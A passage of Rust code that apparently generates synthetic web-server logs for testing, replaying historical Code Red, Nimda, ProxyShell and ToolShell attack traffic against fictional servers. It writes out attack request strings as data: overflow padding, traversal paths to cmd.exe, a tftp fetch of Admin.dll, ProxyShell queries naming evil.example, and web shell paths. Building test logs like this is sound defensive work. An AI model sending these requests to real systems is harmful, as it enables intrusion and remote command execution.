            Who::Machine(ip) => ip.into(),
        }
    }

    /// Plays a script: one client, one browser, one person.
    fn play(&mut self, script: &Script) {
        let start = self.hour(script.who) * 3600 + self.dice.below(3600);
        let client = self.client(script.who);
        // The same client comes back with the same browser and person.
        let mut habit = Dice::new(&client);
        let agent = habit.pick(script.agents);
        let name = habit.pick(NAMES);
        let user = script.user.replace("{user}", name);
        let keeps = habit.chance(40);
        let follows = agent.starts_with("Mozilla")
            && !matches!(script.who, Who::Machine(_));
        let mut visit = Visit { client, agent, ..quiet(start) };
        for (nth, call) in script.calls.iter().enumerate() {
            if nth > 0 {
                let hurry = visit.status == 401;
                let pause = if hurry { 1 } else { call.pause() };
                visit.at += self.dice.below(pause);
            }
            let known = !matches!(call.status, 401 | 404);
            visit.user = if known { user.clone() } else { "-".into() };
            self.fit(&mut visit, call, name, keeps);
            // A line is written when the answer is complete.
            visit.at += visit.taken / 1000;
            let leaves = nth > 1 && self.dice.chance(12);
            if leaves || visit.at >= hms(24, 0, 0) {
                break;
            }
            self.add(&visit);
            if follows && call.is_page() && call.status == 200 {
                visit.referer = self.address(&visit);
            }
        }
    }

    /// Turns `visit` into the next request of its script.
    fn fit(
        &mut self,
        visit: &mut Visit,
        call: &Call,
        name: &str,
        keeps: bool,
    ) {
        visit.take(call);
        visit.stem = self.fill(call.stem, name).into();
        visit.query = self.fill(call.query, name);
        if call.is_static() && keeps && call.status == 200 {
            (visit.status, visit.sent) = (304, 142);
        } else if call.query != "-" {
            visit.sent += self.dice.below(400);
        }
        let typed = if call.method == "POST" { 240 } else { 0 };
        visit.received = 230 + typed + self.dice.below(160);
        visit.taken = call.slow / 2 + self.dice.below(call.slow);
    }

    /// What the next request names as its referer.
    fn address(&self, visit: &Visit) -> String {
        let stem = String::from_utf8_lossy(&visit.stem);
        match visit.query.as_str() {
            "-" => format!("{}{stem}", self.server.url),
            query => format!("{}{stem}?{query}", self.server.url),
        }
    }

    /// Puts in what differs from request to request.
    fn fill(&mut self, text: &str, name: &str) -> String {
        let mut filled = String::new();
        let mut rest = text;
        while let Some((before, after)) = rest.split_once('{') {
            let (key, tail) = after.split_once('}').unwrap_or((after, ""));
            filled.push_str(before);
            filled.push_str(&self.word(key, name));
            rest = tail;
        }
        filled + rest
    }

    fn word(&mut self, key: &str, name: &str) -> String {
        match key {
            "city" => self.dice.pick(CITIES).into(),
            "word" => self.dice.pick(WORDS).into(),
            "user" => name.into(),
            // What belongs to one person stays the same.
            "own" => (1000 + Dice::new(name).below(9000)).to_string(),
            "id" => {
                let (low, high) = (self.dice.below(1 << 31), self.dice.0);
                format!(
                    "{low:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
                    high & 0xffff,
                    high >> 16 & 0xfff,
                    high >> 28 & 0xfff,
                    high >> 12 & 0xffff_ffff_ffff,
                )
            }
            _ => (1000 + self.dice.below(9000)).to_string(),
        }
    }
}

// ----------------------------------------------------------------- worms

/// How many filler characters Code Red puts before its code.
const PADDING: usize = 224;
/// The rest of the query of Code Red and Code Red II.
const OVERFLOW: &str = "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801\
    %u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b\
    %u53ff%u0078%u0000%u00=a";
const DIR: &str = "/c+dir";

/// The sixteen requests of Nimda in their order: the stem that IIS 4 and 5
/// log (decoded once, raw bytes), and the path as it was sent.
const NIMDA: [(&[u8], &str); 16] = [
    (b"/scripts/root.exe", "/scripts/root.exe"),
    (b"/MSADC/root.exe", "/MSADC/root.exe"),
    (b"/c/winnt/system32/cmd.exe", "/c/winnt/system32/cmd.exe"),
    (b"/d/winnt/system32/cmd.exe", "/d/winnt/system32/cmd.exe"),
    (
        b"/scripts/..%5c../winnt/system32/cmd.exe",
        "/scripts/..%255c../winnt/system32/cmd.exe",
    ),
    (
        b"/_vti_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe",
        "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
    ),
    (
        b"/_mem_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe",
        "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe",
    ),
    (
        b"/msadc/..%5c../..%5c../..%5c/..\xc1\x1c../..\xc1\x1c../..\xc1\x1c\
          ../winnt/system32/cmd.exe",
        "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c\
         ../winnt/system32/cmd.exe",
    ),
    (
        b"/scripts/..\xc1\x1c../winnt/system32/cmd.exe",
        "/scripts/..%c1%1c../winnt/system32/cmd.exe",
    ),
    (
        b"/scripts/..\xc0/../winnt/system32/cmd.exe",
        "/scripts/..%c0%2f../winnt/system32/cmd.exe",
    ),
    (
        b"/scripts/..\xc0\xaf../winnt/system32/cmd.exe",
        "/scripts/..%c0%af../winnt/system32/cmd.exe",
    ),
    (
        b"/scripts/..\xc1\x9c../winnt/system32/cmd.exe",
        "/scripts/..%c1%9c../winnt/system32/cmd.exe",
    ),
    (
        b"/scripts/..%5c../winnt/system32/cmd.exe",
        "/scripts/..%%35%63../winnt/system32/cmd.exe",
    ),
    (
        b"/scripts/..%5c../winnt/system32/cmd.exe",
        "/scripts/..%%35c../winnt/system32/cmd.exe",
    ),
    (
        b"/scripts/..%5c../winnt/system32/cmd.exe",
        "/scripts/..%25%35%63../winnt/system32/cmd.exe",
    ),
    (
        b"/scripts/..%2f../winnt/system32/cmd.exe",
        "/scripts/..%252f../winnt/system32/cmd.exe",
    ),
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Worm {
    CodeRed,
    CodeRedII,
    Nimda,
}

/// One worm on one day: who spreads it, and between which times.
struct Wave {
    date: &'static str,
    worm: Worm,
    clients: &'static [&'static str],
    from: u64,
    to: u64,
}

const fn wave(
    date: &'static str,
    worm: Worm,
    clients: &'static [&'static str],
    from: u64,
    to: u64,
) -> Wave {
    Wave { date, worm, clients, from, to }
}

const RED: &[&str] = &[
    "192.0.2.104",
    "192.0.2.131",
    "192.0.2.188",
    "192.0.2.219",
    "198.51.100.112",
    "198.51.100.149",
    "198.51.100.203",
    "198.51.100.246",
    "203.0.113.101",
    "203.0.113.127",
    "203.0.113.166",
    "203.0.113.210",
];
const RED_LATE: &[&str] = &["192.0.2.131", "203.0.113.166"];
const RED_TWO: &[&str] = &[
    "192.0.2.115",
    "192.0.2.162",
    "192.0.2.240",
    "198.51.100.121",
    "198.51.100.177",
    "198.51.100.229",
    "203.0.113.118",
    "203.0.113.193",
];
const NIMDA_OUTSIDE: &[&str] = &[
    "192.0.2.146",
    "192.0.2.201",
    "198.51.100.130",
    "198.51.100.215",
    "203.0.113.140",
    "203.0.113.232",
];
const NIMDA_LATE: &[&str] = &["198.51.100.215", "203.0.113.232"];
/// A workstation inside, with Personal Web Server on it.
const WORKSTATION: &[&str] = &["10.1.4.77"];

const WAVES: &[Wave] = &[
    wave("2001-07-19", Worm::CodeRed, RED, hms(10, 0, 0), hms(23, 50, 0)),
    wave("2001-07-20", Worm::CodeRed, RED_LATE, 0, hms(4, 0, 0)),
    wave("2001-08-05", Worm::CodeRed, RED_LATE, 0, hms(23, 0, 0)),
    wave("2001-08-05", Worm::CodeRedII, RED_TWO, 0, hms(23, 50, 0)),
    wave("2001-08-05", Worm::CodeRedII, WORKSTATION, 36_000, 80_000),
    wave("2001-08-06", Worm::CodeRed, RED_LATE, 0, hms(23, 0, 0)),
    wave("2001-08-06", Worm::CodeRedII, RED_TWO, 0, hms(23, 50, 0)),
    wave("2001-08-06", Worm::CodeRedII, WORKSTATION, 0, 80_000),
    wave("2001-09-18", Worm::CodeRedII, RED_LATE, 0, hms(12, 0, 0)),
    wave("2001-09-18", Worm::Nimda, NIMDA_OUTSIDE, 49_500, 84_000),
    wave("2001-09-18", Worm::Nimda, WORKSTATION, 56_000, 84_000),
    wave("2001-09-18", Worm::Nimda, &[WEB1.ip], 52_000, 84_000),
    wave("2001-09-19", Worm::Nimda, NIMDA_OUTSIDE, 0, 84_000),
    wave("2001-09-19", Worm::Nimda, WORKSTATION, 20_000, 50_000),
    wave("2001-09-19", Worm::Nimda, &[WEB1.ip], 0, 50_000),
    wave("2001-10-03", Worm::CodeRed, RED_LATE, 0, 84_000),
    wave("2001-10-03", Worm::Nimda, NIMDA_LATE, 0, 84_000),
    wave("2001-10-03", Worm::Nimda, WORKSTATION, 20_000, 60_000),
];

/// The day WEB1 was back after it had been set up anew.
const REBUILT: &str = "2001-10-01";

/// Number of a worm request: 0 is `default.ida`, 1 to 16 are Nimda's.
type Shape = usize;

/// Status, Win32 status and bytes of the answer to a worm.
fn answer(guard: Guard, shape: Shape, size: u64) -> (u64, u64, u64) {
    match (guard, shape) {
        (Guard::Logon, _) => (401, 5, 4431),
        // The error page of idq.dll: patched or not, it looks the same.
        (Guard::Open | Guard::Patched, 0) => (200, 0, 211),
        (Guard::Open, 1..=3 | 5 | 6 | 13..=16) => (200, 0, 980 + size),
        (Guard::Open | Guard::Patched, 8..=12) => (500, 87, 3310),
        (Guard::UrlScan, _) | (_, 0..=2) => (404, 2, 3387),
        _ => (404, 3, 3387),
    }
}

impl Day<'_> {
    fn worms(&mut self) {
        let inside = self.server.guard == Guard::UrlScan;
        let date = self.date;
        for wave in WAVES.iter().filter(|wave| wave.date == date) {
            for client in wave.clients {
                let local = client.starts_with("10.");
                let own = *client == self.server.ip;
                // Nobody outside reaches the intranet; the others are
                // found by chance, the neighbours always.
                let found = self.dice.chance(80) || self.server.ip == WEB1.ip;
                if own || !local && (inside || !found) {
                    continue;
                }
                let at = wave.from + self.dice.below(wave.to - wave.from);
                self.strike(wave.worm, client, at);
            }
        }
    }

    fn strike(&mut self, worm: Worm, client: &str, at: u64) {
        match worm {
            Worm::CodeRed => self.code_red("N", client, at, 4039),
            Worm::CodeRedII => self.code_red("X", client, at, 3818),
            Worm::Nimda => self.nimda(client, at),
        }
    }

    fn guard(&self) -> Guard {
        match self.server.guard {
            Guard::Open if self.date >= REBUILT => Guard::Unmapped,
            guard => guard,
        }
    }

    fn code_red(&mut self, fill: &str, client: &str, at: u64, received: u64) {
        let query = format!("{}{OVERFLOW}", fill.repeat(PADDING));
        let visit = Visit { client: client.into(), query, ..worm(at) };
        let visit = Visit { received, ..visit };
        self.probe(visit, 0, b"/default.ida", "/default.ida");
    }

    fn nimda(&mut self, client: &str, start: u64) {
        let mut at = start;
        for (nth, (stem, sent)) in NIMDA.iter().enumerate() {
            let visit = Visit {
                client: client.into(),
                query: DIR.into(),
                received: 62 + sent.len() as u64,
                ..worm(at)
            };
            self.probe(visit, nth + 1, stem, sent);
            if nth == 0 && self.guard() == Guard::Open {
                at = self.transfer(client, at + 1);
            }
            at += self.dice.below(3);
        }
    }

    /// One request of a worm, answered as this server does.
    fn probe(&mut self, visit: Visit, shape: Shape, stem: &[u8], sent: &str) {
        let size = self.dice.below(700);
        let (status, win32, bytes) = answer(self.guard(), shape, size);
        let taken = if status == 200 { 90 } else { 10 };
        let mut visit = Visit {
            stem: stem.into(),
            status,
            win32,
            sent: bytes,
            taken: taken + self.dice.below(60),
            ..visit
        };
        if self.guard() == Guard::UrlScan {
            visit.stem = b"/<Rejected-By-UrlScan>".into();
            visit.query = format!("~{sent}?{}", visit.query);
        }
        self.add(&visit);
    }

    /// The backdoor answered: Nimda copies itself over and starts.
    fn transfer(&mut self, client: &str, at: u64) -> u64 {
        let order =
            format!("/c+tftp%20-i%20{client}%20GET%20Admin.dll%20Admin.dll");
        let mut visit = Visit { client: client.into(), ..worm(at + 7) };
        visit.take(&get("/scripts/root.exe", "-", 355).answered(502, 0, 0));
        visit.query = order;
        (visit.received, visit.taken) = (131, 7200);
        self.add(&visit);
        visit.take(&get("/scripts/Admin.dll", "-", 1040));
        (visit.at, visit.received, visit.taken) = (at + 8, 64, 410);
        self.add(&visit);
        at + 9
    }
}

fn worm(at: u64) -> Visit {
    Visit { version: "HTTP/1.0", ..quiet(at) }
}

// --------------------------------------------------------- done by hand

/// One request that a person sent.
struct Step {
    date: &'static str,
    at: u64,
    client: &'static str,
    agent: &'static str,
    referer: &'static str,
    call: Call,
}

/// A person at work: the day, the address and the program used.
struct Actor(&'static str, &'static str, &'static str);

impl Actor {
    const fn does(&self, at: u64, call: Call) -> Step {
        let Actor(date, client, agent) = *self;
        Step { date, at, client, agent, referer: "-", call }
    }
}

impl Step {
    const fn from(self, referer: &'static str) -> Self {
        Self { referer, ..self }
    }
}

const WIN98: &str = "Mozilla/4.0+(compatible;+MSIE+5.0;+Windows+98;+DigExt)";
/// The visitor who tries the backdoor of Code Red II on WEB1.
const VISITOR: Actor = Actor("2001-08-06", "203.0.113.150", WIN98);
const READER: Actor = Actor("2001-09-18", "198.51.100.61", WIN98);
const READER_TWO: Actor = Actor("2001-09-19", "10.1.3.104", WIN98);
const READER_THREE: Actor = Actor("2001-09-19", "203.0.113.27", WIN98);
const READER_FOUR: Actor = Actor("2001-09-19", "192.0.2.54", WIN98);
const READER_FIVE: Actor = Actor("2001-09-19", "10.1.5.117", WIN98);
const MAIL: Call = get("/readme.eml", "-", 79_225);
const ECHO: &str =
    "/c+echo+owned+by+example+>+c:\\inetpub\\wwwroot\\owned.txt";
const ROOT: &str = "/scripts/root.exe";
const HOME: &str = "http://www.example.com/default.asp";

const BACKDOOR: &[Step] = &[
    VISITOR.does(hms(9, 12, 7), get(ROOT, DIR, 1312)),
    VISITOR.does(hms(9, 12, 51), get(ROOT, "/c+dir+c:\\", 2480)),
    VISITOR.does(hms(9, 14, 2), get(ROOT, "/c+dir+c:\\inetpub", 1875)),
    VISITOR.does(hms(9, 19, 40), get(ROOT, ECHO, 355).answered(502, 0, 0)),
    VISITOR.does(hms(9, 20, 5), get("/owned.txt", "-", 262)),
    READER.does(hms(14, 31, 9), MAIL).from(HOME),
    READER_TWO.does(hms(8, 2, 44), MAIL).from(HOME),
    READER_THREE.does(hms(9, 47, 1), MAIL).from(HOME),
    READER_FOUR.does(hms(10, 12, 33), MAIL).from(HOME),
    READER_FIVE.does(hms(11, 30, 20), MAIL).from(HOME),
];

const PYTHON: &str = "python-requests/2.26.0";
const SCOUT: Actor = Actor("2021-08-18", "203.0.113.201", PYTHON);
const SHELL: Actor = Actor("2021-08-19", "198.51.100.222", FIREFOX_90);
const SHELL_LATER: Actor = Actor("2021-08-20", "198.51.100.222", FIREFOX_90);
const OTHERS: Actor = Actor("2021-08-20", "192.0.2.177", PYTHON);
const FIREFOX_90: &str = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;\
    +rv:90.0)+Gecko/20100101+Firefox/90.0";
const AUTO_JSON: &str = "/autodiscover/autodiscover.json";
/// The query of `ProxyShell`: the mailbox part turns the path into `$to`.
macro_rules! proxyshell {
    ($to:literal) => {
        concat!(
            "@evil.example/",
            $to,
            "&Email=autodiscover/autodiscover.json%3f@evil.example",
            "&CorrelationID=<empty>;&cafeReqId={id};"
        )
    };
}
const NSPI: &str = proxyshell!("mapi/nspi/?");
const DISCOVER: &str = proxyshell!("autodiscover/autodiscover.xml?");
const EMSMDB: &str = proxyshell!("mapi/emsmdb?");
/// The token is a made-up one, cut short.
const REMOTE_SHELL: &str = proxyshell!(
    "powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTA5FWEFNUExF"
);
const PLANTED: &str = "/aspnet_client/qzwkxfd.aspx";

const PROXYSHELL: &[Step] = &[
    SCOUT.does(hms(3, 41, 12), get(AUTO_JSON, NSPI, 0).slow(62)),
    SCOUT.does(hms(3, 41, 14), post(AUTO_JSON, DISCOVER, 0)),
    SCOUT.does(hms(3, 41, 16), post(AUTO_JSON, EMSMDB, 0)),
    SCOUT.does(hms(3, 41, 22), post(AUTO_JSON, REMOTE_SHELL, 0)),
    SCOUT.does(hms(3, 41, 24), post(AUTO_JSON, REMOTE_SHELL, 0)),
    SCOUT.does(hms(3, 41, 29), post(AUTO_JSON, REMOTE_SHELL, 0)),
    SCOUT.does(hms(3, 42, 3), post(AUTO_JSON, REMOTE_SHELL, 0)),
    SHELL.does(hms(2, 7, 31), get(PLANTED, "-", 0)),
    SHELL.does(hms(2, 8, 2), post(PLANTED, "-", 0).slow(700)),
    SHELL.does(hms(2, 9, 17), post(PLANTED, "-", 0).slow(1900)),
    SHELL.does(hms(2, 13, 50), post(PLANTED, "-", 0).slow(5200)),
    SHELL_LATER.does(hms(23, 2, 6), post(PLANTED, "-", 0).slow(800)),
    SHELL_LATER.does(hms(23, 4, 41), post(PLANTED, "-", 0).slow(2600)),
    OTHERS.does(hms(15, 20, 11), missing("/aspnet_client/shell.aspx")),
    OTHERS.does(hms(15, 20, 12), missing("/aspnet_client/supp0rt.aspx")),
    OTHERS.does(hms(15, 20, 14), missing("/owa/auth/error_page.aspx")),
];

const ZGRAB: &str = "Mozilla/5.0+zgrab/0.x";
const EARLY: Actor = Actor("2025-07-17", "192.0.2.215", FIREFOX_120);
const TAKER: Actor = Actor("2025-07-18", "203.0.113.244", FIREFOX_120);
const SECOND: Actor = Actor("2025-07-19", "198.51.100.238", FIREFOX_120);
const SCANNER: Actor = Actor("2025-07-16", "198.51.100.233", ZGRAB);
const SCANNER_LATER: Actor = Actor("2025-07-19", "198.51.100.233", ZGRAB);
const PANE: &str = "/_layouts/15/ToolPane.aspx";
const EDIT: &str = "DisplayMode=Edit&a=/ToolPane.aspx";
const SIGN_OUT: &str = "/_layouts/SignOut.aspx";
const STEALER: &str = "/_layouts/15/spinstall0.aspx";

const TOOLSHELL: &[Step] = &[
    SCANNER.does(hms(1, 10, 20), missing("/wp-login.php")),
    SCANNER.does(hms(1, 10, 21), missing("/.env")),
    SCANNER.does(hms(1, 10, 22), missing("/.git/config")),
    SCANNER.does(hms(1, 10, 24), missing("/phpmyadmin/index.php")),
    SCANNER.does(hms(1, 10, 25), missing("/actuator/health")),
    EARLY.does(hms(21, 52, 38), logon(PANE, EDIT).by("POST")).from(SIGN_OUT),
    TAKER.does(hms(18, 6, 14), post(PANE, EDIT, 0).slow(1400)).from(SIGN_OUT),
    TAKER.does(hms(18, 6, 19), get(STEALER, "-", 0).slow(300)).from(SIGN_OUT),
    SECOND.does(hms(7, 28, 2), post(PANE, EDIT, 0).slow(1100)).from(SIGN_OUT),
    SECOND.does(hms(7, 28, 5), get(STEALER, "-", 0).slow(120)).from(SIGN_OUT),
    SCANNER_LATER.does(hms(11, 3, 51), missing("/wp-login.php")),
    SCANNER_LATER.does(hms(11, 3, 52), missing("/.env")),
    SCANNER_LATER.does(hms(11, 3, 54), missing("/owa/auth/x.js")),
];

impl Day<'_> {
    fn steps(&mut self, steps: &[Step]) {
        let date = self.date;
        for step in steps.iter().filter(|step| step.date == date) {
            let mut visit = Visit {
                client: step.client.into(),
                agent: step.agent,
                referer: step.referer.into(),
                ..quiet(step.at)
            };
            visit.take(&step.call);
            visit.query = self.fill(step.call.query, "-");
            visit.received = 310 + self.dice.below(40);
            visit.taken = step.call.slow + self.dice.below(40);
            self.add(&visit);
        }
    }

    /// What was done to WEB1 besides the worms' own noise.
    fn web1(&mut self) {
        self.steps(BACKDOOR);
        match self.date {
            "2001-07-19" => self.restart(hms(15, 22, 40)),
            "2001-08-06" => self.restart(hms(3, 40, 12)),
            "2001-09-18" => {
                // The burst that brought Nimda in, before all the others.
                self.nimda("203.0.113.140", hms(13, 22, 5));
                self.restart(hms(14, 2, 31));
            }
            _ => {}
        }
    }

    /// A power cut in the middle of a burst of Nimda, and a broken line.
    fn shop(&mut self) {
        if self.date != "2001-09-19" {
            return;
        }
        let (cut, back) = (hms(16, 2, 11), hms(16, 41, 0));
        self.outage(cut, back);
        let short = "2001-09-19 09:14:27 10.1.2.91 - W3SVC1 FREIGHT-SHOP\r\n";
        self.rows.push((hms(9, 14, 27), short.into()));
        let torn = "2001-09-19 16:02:11 192.0.2.201 - W3SVC1 FREIGHT-SHOP \
                    10.1.0.14 80 GET /scripts/root.exe /c+dir 4";
        let mut tail = Vec::from(torn);
        tail.resize(tail.len() + NUL_RUN, 0);
        self.rows.push((cut, tail));
        self.restart(back);
    }
}

/// Bytes that were set aside for the log but never written.
const NUL_RUN: usize = 1_536;

// --------------------------------------------------------------- HTTPERR

/// What HTTP.sys refused by itself on EXCH01.
const REFUSED: &[&str] = &[
    "2021-08-16 05:14:09 192.0.2.177 40112 {s} HTTP/1.1 GET / - 400 - \
     Hostname -",
    "2021-08-16 22:40:31 198.51.100.233 51877 {s} HTTP/1.0 GET \
     /..\\..\\..\\..\\windows\\win.ini - 403 - Forbidden -",
    "2021-08-18 02:20:44 192.0.2.177 40377 {s} - - - - 400 - BadRequest -",
    "2021-08-18 03:40:58 203.0.113.201 38110 {s} - - - - 400 - Verb -",
    "2021-08-19 11:02:03 198.51.100.233 60020 {s} HTTP/1.1 GET \
     /owa/%00.aspx - 400 - URL -",
    "2021-08-20 15:20:09 192.0.2.177 41909 {s} - - - - 400 - BadRequest -",
];

fn http_errors() -> (String, Vec<u8>) {
    let name = "EXCH01/HTTPERR/httperr1.log";
    let mut dice = Dice::new(name);
    let socket = format!("{} {}", EXCH01.ip, EXCH01.port);
    let mut rows = Vec::new();
    for (date, _) in DAYS_2021 {
        for _ in 0..40 {
            let time = clock(dice.below(hms(24, 0, 0)));
            let seat = 90 + dice.below(40);
            let port = 49_152 + dice.below(16_000);
            let reason = dice.pick(TIMERS);
            rows.push(format!(
                "{date} {time} 10.2.3.{seat} {port} {socket} \
                 - - - - - - {reason}"
            ));
        }
    }
    rows.extend(REFUSED.iter().map(|row| row.replace("{s}", &socket)));
    rows.sort();
    let first = rows.first().and_then(|row| row.get(..19));
    let mut text = format!(
        "#Software: Microsoft HTTP API 2.0\r\n#Version: 1.0\r\n\
         #Date: {}\r\n#Fields: {HTTP_API}\r\n",
        first.unwrap_or_default()
    );
    for row in rows {
        text.push_str(&row);
        text.push_str("\r\n");
    }
    (name.into(), text.into())
}

const TIMERS: &[&str] = &[
    "Timer_ConnectionIdle -",
    "Timer_ConnectionIdle -",
    "Timer_ConnectionIdle -",
    "Timer_MinBytesPerSecond -",
    "Connection_Dropped MSExchangeOWAAppPool",
];

// ------------------------------------------------------------------ files

/// All files of the showcase: the path under `testdata/showcase`, with `/`
/// between its parts, and the content. Sorted by path.
pub fn files() -> Vec<(String, Vec<u8>)> {
    let mut files = vec![http_errors()];
    for server in [&WEB1, &WEB2, &INTRA, &SHOP, &PARTNER] {
        files.extend(DAYS_2001.iter().map(|day| file(server, day)));
    }
    files.extend(DAYS_2021.iter().map(|day| file(&EXCH01, day)));
    files.extend(DAYS_2025.iter().map(|day| file(&SP01, day)));
    files.sort();
    files
}

fn file(
    server: &Server,
    (date, percent): &(&'static str, u64),
) -> (String, Vec<u8>) {
    let mut day = Day::new(server, date);
    day.ordinary(*percent);
    day.worms();
    match server.name {
        "FREIGHT-WEB1" => day.web1(),
        "FREIGHT-SHOP" => day.shop(),
        "EXCH01" => day.steps(PROXYSHELL),
        "SP01" => day.steps(TOOLSHELL),
        _ => {}
    }
    day.finish()
}
